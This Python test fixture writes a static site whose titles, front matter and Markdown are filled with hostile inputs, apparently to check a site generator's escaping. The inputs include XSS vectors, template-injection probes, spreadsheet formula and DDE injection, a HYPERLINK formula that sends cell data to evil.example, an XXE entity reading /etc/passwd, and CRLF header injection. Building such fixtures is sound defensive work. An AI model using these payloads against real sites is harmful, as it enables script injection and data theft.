"""A site all of whose text is hostile: in every field something that would run, escape or deceive."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

from sites import put

if TYPE_CHECKING:
    from pathlib import Path

RUN = "pwned()"
SCRIPT = f"<script>{RUN}</script>"
IMAGE = f"<img src=x onerror={RUN}>"
BREAKS = f"\"'></title></script></style></textarea>--><svg onload={RUN}>]]>{IMAGE}"
TEMPLATE = "{{ 191*193 }}{% for x in config %}{{ x }}{% endfor %}{{ ''.__class__ }}${191*193}<%= 191*193 %>"
COMPUTED = str(191 * 193)
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"go")'
HIDDEN = "\u202eabc\u202c\u200b\u2066\ufeff\u061c"
EVIL = "https://evil.example/"

TITLES = {
    "script": SCRIPT,
    "image": IMAGE,
    "breaks": BREAKS,
    "template": TEMPLATE,
    "formula": FORMULA,
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "hidden": f"FPT {HIDDEN} Viettel",
    "entity": "&lt;script&gt;pwned()&lt;/script&gt; &#x3C;script&#x3E; &amp;amp;",
    "comment": "<!-- --!> <!--><script>pwned()</script>-->",
    "cdata": f"<![CDATA[ {SCRIPT} ]]>",
    "doctype": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;',
    "json": '"}]}</script><script>pwned()</script>\\u003cscript\\u003e',
    "url": "javascript:pwned()//",
    "mail": "A\r\nBcc: a@evil.example\r\n\r\nBody",
    "percent": "%3Cscript%3Epwned()%3C/script%3E %0d%0aSet-Cookie:a=b",
    "plain": "=cmd",
}

MARKDOWN = f"""
# Heading {IMAGE}

FPT và Viettel {SCRIPT} ký hợp tác *chiến lược* {IMAGE} ngày 12/3/2025. {BREAKS}

[one](javascript:pwned()) [two](JaVaScRiPt&colon;pwned()) [three](data:text/html,{SCRIPT}) [four](vbscript:pwned())
[five](//evil.example/x) [six]({EVIL} "a\\" onmouseover=\\"pwned()") <javascript:pwned()> [seven][r] ![img]({EVIL}p.png)

<a href="javascript:pwned()" onclick="pwned()" style="background:url({EVIL}s.png)">x</a>
<iframe src="{EVIL}"></iframe><object data="{EVIL}"></object><embed src="{EVIL}"><base href="{EVIL}">
<form action="{EVIL}"><input autofocus onfocus=pwned()><button formaction="javascript:pwned()">b</button></form>
<meta http-equiv="refresh" content="0;url={EVIL}"><link rel="stylesheet" href="{EVIL}a.css">
<style>@import "{EVIL}b.css";</style>
<svg><script>pwned()</script><animate onbegin=pwned() attributeName=x></svg>
<math><mi xlink:href="javascript:pwned()">m</mi></math>
<video src="{EVIL}v" onerror=pwned()></video><details open ontoggle=pwned()>d</details>
<p id="main" name="body">clobbered</p>

`{SCRIPT}` {TEMPLATE} {HIDDEN} &#x202e;&#8203; &#0;

> {IMAGE}

    {SCRIPT}

| a | {IMAGE} |
|---|---|
| {SCRIPT} | [x](javascript:pwned()) |

[r]: javascript:pwned()
"""


def lay_out(root: Path) -> None:
    """Write the site."""
    settings = {"title": BREAKS, "tagline": SCRIPT, "description": TEMPLATE, "author": IMAGE, "republish": True}
    put(root, "content/site.yaml", json.dumps({**settings, "outlets": {BREAKS: "https://example.org/"}}))
    partner = {"id": "evil", "name": f"Evil {IMAGE}", "full_name": BREAKS, "aliases": [SCRIPT, "Evil Corp"]}
    put(root, "content/partners.yaml", json.dumps([{**partner, "homepage": "https://example.org/?a=%22%3E&b=1"}]))
    put(root, "content/pages/evil.md", f"---\ntitle: {json.dumps(BREAKS)}\n---\n{MARKDOWN}")
    for number, (name, text) in enumerate(TITLES.items()):
        put(root, f"content/{name}.md", _clipping(text, number) + MARKDOWN)
        put(
            root, f"seeds/seed-{name}.txt", f"{text}\n\nFPT và Evil Corp ký hợp tác ngày 12/3/2025.\n{text}\n{MARKDOWN}"
        )


def _clipping(text: str, number: int) -> str:
    quoted = json.dumps(text)
    deal = {"parties": ["fpt", "evil", f"Công ty {text}"], "signed_on": f"2025-03-{number + 1:02d}", "place": text}
    front = {
        "title": text,
        "date": f"2025-04-{number + 1:02d}",
        "source": {"name": text, "url": "https://example.org/?q=%22%3E%3Cscript%3E&a='b"},
        "people": [{"name": text, "role": text, "org": text}],
        "place": text,
        "summary": f"{text} {BREAKS}",
        "deals": [deal, {**deal, "parties": ["viettel", text]}],
    }
    lines = (f"{key}: {json.dumps(value)}" for key, value in front.items())
    return "---\n" + "\n".join(lines) + f"\n# {quoted[1:5]!r}\n---\n"
